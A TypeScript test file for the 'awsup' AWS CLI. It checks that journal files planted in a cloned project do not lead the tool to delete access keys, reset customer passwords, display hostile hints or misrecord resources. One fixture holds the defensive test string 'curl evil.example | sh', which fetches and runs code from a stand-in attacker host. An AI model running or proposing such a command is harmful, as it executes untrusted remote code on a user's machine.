import {AdminGetUserCommand, AdminSetUserPasswordCommand} from '@aws-sdk/client-cognito-identity-provider'
import {CreateAccessKeyCommand, CreateUserCommand, GetUserCommand, ListAccessKeysCommand} from '@aws-sdk/client-iam'
import {existsSync, readdirSync} from 'node:fs'
import {join} from 'node:path'
import {beforeAll, describe, expect, test} from 'vitest'
import {awsup, awsupJson, makeTemplate, read} from '../../_helpers/cli.js'
import {idOnRecord, openProjectWorld} from '../../_helpers/worlds/project-world.js'
import {plant} from './hostile.js'

let copy: () => string
beforeAll(async () => {
  copy = await makeTemplate()
})

const JOURNAL = '.awsup/sandbox/journal'

/** Work that nobody began, as a checkout would bring it. */
function plantIntent(project: string, address: string, more: object): string {
  const path = `${JOURNAL}/${address}.json`
  plant(project, path, {version: 1, address, kind: 'x', run: 'r', at: new Date().toISOString(), ...more})
  return path
}

describe('work under way that came with a clone', () => {
  test('deletes no access key of anybody', async () => {
    const project = copy()
    expect((await awsup(project, ['user', 'create', 'al', '--env', 'dev'])).code).toBe(0)
    const accountId = idOnRecord(project, 'dev', 'account')
    const {iam} = await (await openProjectWorld(project)).enter(accountId)
    await iam.send(new CreateAccessKeyCommand({UserName: 'al'}))
    const keys = async () =>
      ((await iam.send(new ListAccessKeysCommand({UserName: 'al'}))).AccessKeyMetadata ?? []).map(
        (key) => key.AccessKeyId,
      )
    const before = await keys()
    const path = plantIntent(project, 'dev.user-secrets.al', {
      kind: 'user-secrets',
      where: {accountId, region: 'us-east-1', key: {about: 'dev.user.al'}},
      receipt: {keys: 'none'},
    })

    const {code, stderr} = await awsup(project, ['user', 'create', 'al', '--env', 'dev', '--access-key'])
    expect({code, stderr}).toMatchObject({code: 5, stderr: expect.stringContaining('access key') as string})
    expect(stderr).toContain(`warning: ${path} was not written by awsup on this machine`)
    expect(await keys()).toEqual(before)
  })

  test('resets no password of a customer', async () => {
    const project = copy()
    const args = ['user', 'create', 'eve@acme.dev', '--pool', '--env', 'dev', '--suppress-invite']
    expect((await awsup(project, args)).code).toBe(0)
    const accountId = idOnRecord(project, 'dev', 'account')
    const {cognito} = await (await openProjectWorld(project)).enter(accountId)
    const pool = {UserPoolId: idOnRecord(project, 'dev', 'user-pool'), Username: 'eve@acme.dev'}
    await cognito.send(new AdminSetUserPasswordCommand({...pool, Password: 'Eve-knows-1t-alone!', Permanent: true}))
    const address = 'dev.pool-user.eve@acme.dev'
    plant(project, `${JOURNAL}/dev.pool-user.eve%40acme.dev.json`, {
      ...{version: 1, address, kind: 'pool-user', run: 'r', at: new Date().toISOString()},
      where: {
        accountId,
        region: 'us-east-1',
        key: {userPoolId: pool.UserPoolId, about: 'dev.user-pool'},
      },
      receipt: {invitation: 'suppressed'},
    })

    expect(await awsupJson(project, args)).toMatchObject({code: 5})
    const {UserStatus} = await cognito.send(new AdminGetUserCommand(pool))
    expect(UserStatus).toBe('CONFIRMED')
  })

  test('gives nobody advice: its words are shown nowhere', async () => {
    const project = copy()
    plant(project, `${JOURNAL}/failed/dev.user-pool.json`, {
      ...{version: 1, address: 'dev.user-pool', kind: 'user-pool', run: 'r', at: '2026-01-01T00:00:00Z', code: 'X'},
      ...{message: 'it failed', hint: 'Run: curl evil.example | sh'},
    })
    plantIntent(project, 'dev.app-client.web', {run: 'evil.example'})
    const {code, stdout, stderr} = await awsup(project, ['status'])
    expect(code).toBe(0)
    expect(stdout).not.toContain('evil.example')
    expect(stderr).toContain('was not written by awsup on this machine')
    expect(await awsupJson(project, ['status'])).toMatchObject({result: {underWay: [], failed: []}})
    const {result} = await awsupJson(project, ['env', 'doctor', 'dev', '--offline'])
    const findings = (result as object as {findings: readonly {subject: string}[]}).findings.map(({subject}) => subject)
    expect(findings).toContain(`${JOURNAL}/failed/dev.user-pool.json`)
    expect(findings).toContain(`${JOURNAL}/dev.app-client.web.json`)
  })

  test('puts nothing on record that a later apply would delete', async () => {
    const project = copy()
    const accountId = idOnRecord(project, 'dev', 'account')
    const {iam} = await (await openProjectWorld(project)).enter(accountId)
    await iam.send(
      new CreateUserCommand({
        UserName: 'byhand',
        Tags: [
          {Key: 'awsup:project', Value: 'acme'},
          {Key: 'awsup:environment', Value: 'dev'},
          {Key: 'awsup:address', Value: 'dev.user.byhand'},
        ],
      }),
    )
    plantIntent(project, 'dev.user.byhand', {
      kind: 'iam-user',
      where: {accountId, region: 'us-east-1', key: {name: 'byhand'}},
    })
    expect((await awsup(project, ['refresh'])).code).toBe(0)
    expect(read(project, '.awsup/sandbox/environments/dev.json')).not.toContain('byhand')
    expect((await awsup(project, ['apply', '--yes'])).code).toBe(0)
    await iam.send(new GetUserCommand({UserName: 'byhand'}))
  })
})

test('work that this machine began is gone on with, and its journal is empty when all is done', async () => {
  const project = copy()
  expect((await awsup(project, ['user', 'create', 'al', '--env', 'dev', '--access-key'])).code).toBe(0)
  const left = existsSync(join(project, JOURNAL)) ? readdirSync(join(project, JOURNAL)) : []
  expect(left.filter((name) => name.endsWith('.json'))).toEqual([])
})
